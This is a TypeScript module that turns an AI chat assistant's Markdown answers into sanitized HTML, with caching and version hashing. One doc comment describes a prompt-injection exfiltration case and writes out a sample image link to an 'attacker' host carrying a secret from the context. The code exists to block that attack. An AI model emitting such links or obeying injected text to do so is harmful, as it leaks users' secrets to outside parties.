import { createHash } from 'node:crypto';
import type sanitizeHtml from 'sanitize-html';
import { LruCache } from '../lru-cache';

type Renderer = { markdown: InstanceType<typeof import('markdown-it')>; sanitize: typeof sanitizeHtml; allowed: sanitizeHtml.IOptions };
let renderer: Renderer | null = null;

// Required on the first answer rendered, not at import: markdown-it and sanitize-html (with
// htmlparser2 and postcss) hold about 5 MiB that a service nobody chats with never needs.
function load(): Renderer {
  if (renderer) return renderer;
  /* eslint-disable @typescript-eslint/no-require-imports -- loaded on first use, see above */
  const MarkdownItClass = require('markdown-it') as typeof import('markdown-it');
  const sanitize = require('sanitize-html') as typeof import('sanitize-html');
  /* eslint-enable @typescript-eslint/no-require-imports */
  const markdown = new MarkdownItClass({ html: false, linkify: true, breaks: false });
  markdown.renderer.rules.image = imageAsLink;
  renderer = {
    markdown,
    sanitize,
    allowed: {
      // No img (nor any other tag that loads something): see imageAsLink.
      allowedTags: sanitize.defaults.allowedTags,
      allowedAttributes: { a: ['href', 'title', 'rel'], code: ['class'], pre: ['class'], span: ['class'] },
      allowedSchemes: ['http', 'https', 'mailto'],
      transformTags: { a: sanitize.simpleTransform('a', { rel: 'noopener noreferrer nofollow' }) },
    },
  };
  return renderer;
}

/**
 * An image in an answer is a link to it, never loaded: a reader's client fetching an address the
 * model wrote would send whatever the model put in it (a prompt injection planted in indexed code
 * can make it write `![status](https://attacker/badge.png?d=<a secret from the context>)`). Its
 * text is the image's description, or its address when it has none; inside a link, the text alone.
 */
const imageAsLink: Renderer['markdown']['renderer']['rules']['image'] = (tokens, index, options, env, self) => {
  const token = tokens[index];
  const escape = (text: string) => renderer!.markdown.utils.escapeHtml(text);
  const source = String(token.attrGet('src') ?? '');
  const text = escape(self.renderInlineAsText(token.children ?? [], options, env) || source);
  let linkDepth = 0;
  for (const before of tokens.slice(0, index)) linkDepth += before.type === 'link_open' ? 1 : before.type === 'link_close' ? -1 : 0;
  if (linkDepth > 0 || !source) return text;
  const title = String(token.attrGet('title') ?? '');
  return `<a href="${escape(source)}"${title ? ` title="${escape(title)}"` : ''}>${text}</a>`;
};

/**
 * Answers rendered lately, by their Markdown, at most 4 million characters of Markdown and HTML
 * (about 8 MiB at most). A client renders a thread's whole history each time it opens it (web Duo
 * Chat asks every message's contentHtml): 0.6 ms for an answer of 4 KB, two thirds of it
 * sanitize-html's, so a thread of 50 answers kept the event loop for 40 ms on every opening. A
 * text over 64,000 characters is rendered each time rather than push out the rest.
 */
const rendered = new LruCache<string, string>(4_000_000, (text, html) => text.length + html.length);
const CACHED_TEXT_MAX_CHARS = 64_000;

/** Bump it whenever this module's own rules change a text's HTML (markdown-it's options, the sanitizer's). */
const RULES_VERSION = 2;

/* eslint-disable @typescript-eslint/no-require-imports -- two small package.json files, not the libraries (see load) */
const packageVersion = (name: string) => (require(`${name}/package.json`) as { version: string }).version;
/* eslint-enable @typescript-eslint/no-require-imports */

/**
 * The version of the HTML renderMarkdown makes, kept beside a rendering stored with a message (GitLab's
 * cached_markdown_version): this module's rules and the versions of markdown-it and sanitize-html, as a positive
 * 31-bit number. An upgrade of either (a sanitizer's fix, say) so reaches the answers stored before it: renderings
 * of another version are rendered afresh when read.
 */
export const MARKDOWN_VERSION =
  createHash('sha256')
    .update(`${RULES_VERSION} markdown-it@${packageVersion('markdown-it')} sanitize-html@${packageVersion('sanitize-html')}`)
    .digest()
    .readUInt32BE(0) >>> 1;

/** An answer's Markdown as HTML safe to put in a page: raw HTML in the Markdown is escaped, then sanitized. */
export function renderMarkdown(text: string): string {
  const cached = rendered.get(text);
  if (cached !== undefined) return cached;
  const { markdown, sanitize, allowed } = load();
  const html = sanitize(markdown.render(text), allowed);
  if (text.length <= CACHED_TEXT_MAX_CHARS) {
    // sanitize-html builds its output by concatenation, which V8 keeps as a tree of pieces; reading a
    // character joins them into one string, so the cache holds one object per answer, not thousands
    // (100 first renders of 4 KB answers: 41 ms with, 45 ms without, against 41 ms not caching).
    html.charCodeAt(0);
    rendered.set(text, html);
  }
  return html;
}
